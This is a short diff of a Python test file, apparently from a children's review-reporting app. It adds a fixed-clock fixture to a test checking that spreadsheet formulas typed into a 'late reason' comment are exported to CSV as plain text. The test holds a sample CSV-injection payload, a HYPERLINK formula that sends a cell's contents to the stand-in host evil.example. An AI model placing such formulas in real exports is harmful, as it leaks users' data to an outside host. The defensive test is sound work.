@@ -114,6 +114,7 @@ def test_an_iro_counts_nothing_of_another_iros_children_in_any_report(other_chil
         assert any(row.count or row.base for row in report_for_user(other_iro, name, everything).rows), name
 
 
+@pytest.mark.usefixtures("pinned_clock")  # the review was held in the fixed period asked for
 def test_a_formula_typed_into_a_late_reason_comes_out_of_the_csv_as_text(child, manager):
     review = Review.objects.get(child=child)
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
